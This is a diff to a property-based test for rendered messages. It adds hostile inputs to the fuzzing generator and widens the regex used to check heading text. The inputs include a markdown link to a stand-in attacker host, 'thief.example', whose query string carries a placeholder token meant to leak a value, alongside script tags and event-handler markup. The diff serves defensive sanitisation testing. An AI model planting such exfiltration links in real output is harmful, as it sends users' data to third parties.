@@ -34,6 +34,8 @@ const hostile: fc.Arbitrary<string> = fc
         '&lt;script&gt;',
         '%ACKNOWLEDGE-URL%',
         '%LEDGER-CHECKPOINT%',
+        '%%ACKNOWLEDGE-URL%%',
+        '[mine](https://thief.example/?%%%ACKNOWLEDGE-URL%%%)',
         '[mine](https://thief.example/?%ACKNOWLEDGE-URL%)',
         '<x onclick=1>\n\n',
         '\u202e\u0000',
@@ -84,7 +86,7 @@ describe('a rendered message', () => {
           }
         });
         expect(page('style').length).toBe(1);
-        expect(page('h1').text()).toBe(subject.replaceAll('\u0000', '').replace(/%([A-Z-]+)%/g, '$1'));
+        expect(page('h1').text()).toBe(subject.replaceAll('\u0000', '').replace(/%+([A-Z-]+)%+/g, '$1'));
       }),
       runs(),
     );
